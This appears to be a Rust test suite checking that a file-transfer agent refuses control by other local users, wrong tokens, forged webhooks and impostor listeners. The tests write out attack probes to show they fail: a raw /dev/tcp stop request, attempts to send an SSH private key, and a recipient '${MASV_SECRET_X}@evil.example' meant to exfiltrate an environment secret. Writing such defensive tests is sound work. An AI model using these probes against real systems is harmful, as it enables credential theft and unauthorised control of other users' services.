//! Who may steer the agent: its own user and root, and of all others only who brings its token. By processes of other users,
//! which only root can start; without root these tests have nothing to show.

use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Output;

use serde_json::Value;

use crate::process::{Agent, command, errors};

/// The agent's user, and another one. There are no accounts with these ids.
const AGENT: u32 = 64_001;
const OTHER: u32 = 64_002;

const RULES: &str = "rules:\n  - { name: quick, watch: drop, create: true, upload: { kind: link } }\n";

/// An agent of a user of its own; none where this process cannot become that user.
fn agent_of_its_own_user(flags: &[&str]) -> Option<Agent> {
    if !rustix::process::geteuid().is_root() {
        let _ = std::io::Write::write_all(&mut std::io::stderr(), b"skipped: only root can be several users\n");
        return None;
    }
    let mut agent = Agent::prepare(RULES, flags);
    let user = AGENT.to_string();
    agent.wrapper = ["setpriv", "--reuid", &user, "--regid", &user, "--clear-groups"].map(str::to_owned).into();
    for path in [agent.path(""), agent.path("rules.yaml")] {
        chown(path, Some(AGENT), Some(AGENT)).unwrap();
    }
    agent.go_on();
    Some(agent)
}

/// A folder of a user's own.
fn home_of(user: u32) -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    chown(home.path(), Some(user), Some(user)).unwrap();
    home
}

fn masv(user: u32, home: &Path, arguments: &[&str]) -> Output {
    command(home, arguments).uid(user).gid(user).output().unwrap()
}

/// Anyone who could connect to the loopback address could send the agent's user's files, write to its home, copy its state
/// and stopped it.
/// Cases: sending a private key, downloading into `.ssh`, a backup, a rule, a list, stopping; the refusal names `--with-token`.
#[cfg(target_os = "linux")]
#[test]
fn another_user_of_the_machine_can_do_nothing_and_the_own_user_everything() {
    let Some(mut agent) = agent_of_its_own_user(&[]) else { return };
    let home = home_of(OTHER);
    let url = agent.url();
    std::fs::create_dir(agent.path(".ssh")).unwrap();
    let key = agent.path(".ssh/id_ed25519");
    std::fs::write(&key, "private").unwrap();
    for (path, mode) in [(agent.path(".ssh"), 0o700), (key.clone(), 0o600)] {
        chown(&path, Some(AGENT), Some(AGENT)).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let (key, into, copy) = (key.display().to_string(), agent.path(".ssh"), agent.path("copy.db"));
    let (into, copy) = (into.display().to_string(), copy.display().to_string());
    let link = "http://127.0.0.1:9/L1?secret=s";
    let orders: [&[&str]; 6] = [
        &["upload", "start", "link", &key],
        &["download", "start", "--url", link, "--destination", &into, "--create-package-folder=false"],
        &["server", "backup", &copy],
        &["automation", "add", "upload", "--name", "x", "--watch", &into],
        &["upload", "ls"],
        &["server", "stop"],
    ];
    for order in orders {
        let refused = masv(OTHER, home.path(), &[&["--server", &url][..], order].concat());
        assert_eq!(refused.status.code(), Some(5), "{order:?}: {}", errors(&refused));
        assert!(errors(&refused).contains("belongs to another user"), "{order:?}: {}", errors(&refused));
        assert!(errors(&refused).contains("--with-token"), "{order:?}: {}", errors(&refused));
    }
    assert!(agent.is_running() && !Path::new(&copy).exists());
    assert_eq!(agent.json(&["upload", "ls"])["transfers"], Value::Array(Vec::new()), "root needs no token");

    let mine = masv(AGENT, &agent.path(""), &["upload", "start", "link", &key]);
    assert!(mine.status.success(), "{}", errors(&mine));
    let by_address = home_of(AGENT);
    let mine = masv(AGENT, by_address.path(), &["--server", &url, "upload", "ls"]);
    assert!(mine.status.success(), "the system says whose the connection is: {}", errors(&mine));
    let stopped = masv(AGENT, &agent.path(""), &["server", "stop"]);
    assert!(stopped.status.success(), "{}", errors(&stopped));
    assert_eq!(agent.ended(), Some(0));
}

/// The kernel says of a socket that was closed that it is root's.
#[cfg(target_os = "linux")]
#[test]
fn a_caller_that_has_gone_before_it_is_looked_at_is_not_taken_for_root() {
    let Some(mut agent) = agent_of_its_own_user(&[]) else { return };
    let port = agent.url().rsplit_once(':').unwrap().1.to_owned();
    let order = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'POST /api/v1/server/stop HTTP/1.1\\r\\nHost: localhost\\r\\n\
         Content-Type: application/json\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}' >&3"
    );
    for _ in 0..40 {
        let sent = std::process::Command::new("bash").args(["-c", &order]).uid(OTHER).gid(OTHER).status().unwrap();
        assert!(sent.success());
    }
    agent.json(&["server", "status"]);
    assert!(agent.is_running());
}

/// Case: another user with the token may call; the token is in a file of mode 0600.
#[test]
fn another_user_with_the_token_may_and_a_removed_token_is_made_anew() {
    let Some(mut agent) = agent_of_its_own_user(&[]) else { return };
    let home = home_of(OTHER);
    let file = agent.path("data/api.token");
    let about = std::fs::metadata(&file).unwrap();
    assert_eq!((about.mode() & 0o777, about.uid()), (0o600, AGENT));
    let lend = |token: &str| {
        std::fs::write(home.path().join("token"), token).unwrap();
        masv(OTHER, home.path(), &["--server", &agent.url(), "--with-token", "token", "server", "status"])
    };
    let token = std::fs::read_to_string(&file).unwrap();
    assert!(lend(&token).status.success());
    let guess = lend("guess");
    assert!(guess.status.code() == Some(5) && errors(&guess).contains("the token is wrong"), "{}", errors(&guess));

    agent.stop();
    std::fs::remove_file(&file).unwrap();
    agent.go_on();
    assert_ne!(std::fs::read_to_string(&file).unwrap(), token);
}

/// With sudo the browser is another user's, so the address has the token; for the agent's own user it needs none.
#[test]
fn the_dashboard_opens_by_one_command() {
    let Some(agent) = agent_of_its_own_user(&[]) else { return };
    let token = std::fs::read_to_string(agent.path("data/api.token")).unwrap();
    let url = agent.json(&["open"])["url"].as_str().unwrap().to_owned();
    assert_eq!(url, format!("{}/#token={token}", agent.url()));
    if cfg!(target_os = "linux") {
        let mine = masv(AGENT, &agent.path(""), &["open"]);
        let answer: Value = serde_json::from_slice(&mine.stdout).unwrap();
        assert_eq!(answer["url"], format!("{}/", agent.url()));
    }
    let home = home_of(OTHER);
    assert_eq!(masv(OTHER, home.path(), &["--server", &agent.url(), "open"]).status.code(), Some(5));
}

/// A socket of the mode 600 is for its user; one that was opened to others by its mode is for them, too.
#[test]
fn the_mode_of_a_socket_says_who_may_call() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let address = format!("unix://{}", folder.path().join("agent.sock").display());
    for (mode, allowed) in [("600", false), ("666", true)] {
        let flags = ["--listen", &address, "--socket-mode", mode];
        let Some(agent) = agent_with_socket(folder.path(), &flags) else { return };
        let home = home_of(OTHER);
        let said = masv(OTHER, home.path(), &["--server", &address, "server", "status"]);
        assert_eq!(said.status.success(), allowed, "{mode}: {}", errors(&said));
        drop(agent);
    }
}

fn agent_with_socket(folder: &Path, flags: &[&str]) -> Option<Agent> {
    if rustix::process::geteuid().is_root() {
        chown(folder, Some(AGENT), Some(AGENT)).unwrap();
    }
    agent_of_its_own_user(flags)
}

/// Of an ordered rule the folder to watch was checked, and nothing else; and `${…}` in a recipient was replaced by what the
/// agent's environment held.
#[tokio::test(flavor = "multi_thread")]
async fn an_ordered_rule_reads_and_writes_below_the_roots_and_knows_no_variable() {
    let root = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret"), "hush").unwrap();
    let mut agent = Agent::prepare(RULES, &["--allow-root", root.path().to_str().unwrap()]);
    agent.environment.push(("MASV_SECRET_X".to_owned(), "env-secret-42".to_owned()));
    agent.go_on();
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let order = async |name: &str, more: Value| {
        let mut order = serde_json::json!({ "name": name, "watch_folder": root.path(), "settle": "1h" });
        order.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let answer =
            client.post(format!("{}/api/v1/automations/upload", agent.url())).json(&order).send().await.unwrap();
        (answer.status().as_u16(), answer.json::<Value>().await.unwrap())
    };
    let out = outside.path().display().to_string();
    for (name, more, field) in [
        ("moved", serde_json::json!({ "after": { "complete": { "move": out } } }), "after"),
        ("failed", serde_json::json!({ "after": { "error": { "move": out } } }), "after"),
        ("locked", serde_json::json!({ "password_file": format!("{out}/secret") }), "password_file"),
    ] {
        let (status, answer) = order(name, more).await;
        assert_eq!(status, 400, "{name}: {answer}");
        assert!(answer["fields"][field].is_string(), "{name}: {answer}");
    }
    let mail =
        serde_json::json!({ "recipients": ["${MASV_SECRET_X}@evil.example"], "package_name": "${MASV_SECRET_X}" });
    let (status, answer) = order("mailed", mail).await;
    assert!(status == 201 || status == 400, "{answer}");
    let tried = agent.json(&["rule", "dry-run"]).to_string();
    let written = std::fs::read_to_string(agent.path("rules.yaml")).unwrap();
    assert!(!tried.contains("env-secret-42") && !written.contains("env-secret-42"), "{tried}");
    assert!(!written.contains(&out), "{written}");
}

/// A webhook that was pointed at the agent stopped it.
#[tokio::test(flavor = "multi_thread")]
async fn an_order_without_a_word_of_ours_is_refused() {
    let mut agent = Agent::start(RULES, &[]);
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let stop = format!("{}/api/v1/server/stop", agent.url());
    let as_webhook = serde_json::json!({ "event": "package.finalized", "data": {} });
    assert_eq!(client.post(&stop).send().await.unwrap().status(), 400, "no body");
    assert_eq!(client.post(&stop).json(&as_webhook).send().await.unwrap().status(), 400, "a body of somebody else's");
    let all = format!("{}/api/v1/uploads?states=all", agent.url());
    assert_eq!(client.delete(&all).send().await.unwrap().status(), 400);
    assert!(agent.is_running());
    assert_eq!(client.delete(&all).header("X-Masv", "1").send().await.unwrap().status(), 200);
    assert_eq!(client.post(&stop).json(&serde_json::json!({})).send().await.unwrap().status(), 202);
    assert_eq!(agent.ended(), Some(0));
}

/// Where no agent runs, anybody can listen at its usual address: `masv user login` gave the password to whoever did.
#[cfg(target_os = "linux")]
#[test]
fn a_program_of_another_user_at_the_usual_address_gets_nothing() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::write(folder.path().join("password"), "hush-hush\n").unwrap();
    // In a network of its own, where the port is free.
    let script = format!(
        r#"ip link set lo up || exit 77
        setpriv --reuid=61236 --regid=61236 --clear-groups python3 -c '
import socket
door = socket.create_server(("127.0.0.1", 8080))
open("heard", "w").close()
while True:
    caller, _ = door.accept()
    open("heard", "ab").write(caller.recv(65536))
    caller.close()' & other=$!
        for _ in $(seq 200); do [ -e heard ] && break; sleep 0.05; done
        [ -e heard ] || exit 77
        {masv} user login --email ed@example.com --password-file password; echo "login $?"
        {masv} upload ls; echo "ls $?"
        {masv} upload ls --server http://127.0.0.1:8080; echo "named $?"
        kill $other"#,
        masv = env!("CARGO_BIN_EXE_masv")
    );
    let mut shell = std::process::Command::new("unshare");
    shell.args(["-n", "sh", "-c", &script]).current_dir(folder.path());
    shell.env("MASV_DATA_DIR", folder.path().join("data")).env("XDG_CONFIG_HOME", folder.path().join("config"));
    shell.env_remove("MASV_SERVER").env_remove("MASV_TOKEN");
    let Ok(output) = shell.output() else { return };
    let (said, errors) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    if output.status.code() == Some(77) || masv_platform::own_user() != 0 {
        eprintln!("skipped: this needs root, `ip` and `python3`: {errors}");
        return;
    }
    assert!(
        said.contains("login 5") && said.contains("ls 5") && errors.contains("another user (id 61236)"),
        "{said} {errors}"
    );
    let heard = std::fs::read_to_string(folder.path().join("heard")).unwrap();
    assert!(!heard.contains("hush-hush") && !heard.contains("ed@example.com"), "{heard}");
    assert_eq!(heard.matches("GET /api/v1/uploads").count(), 1, "what is named is asked: {heard}");
}
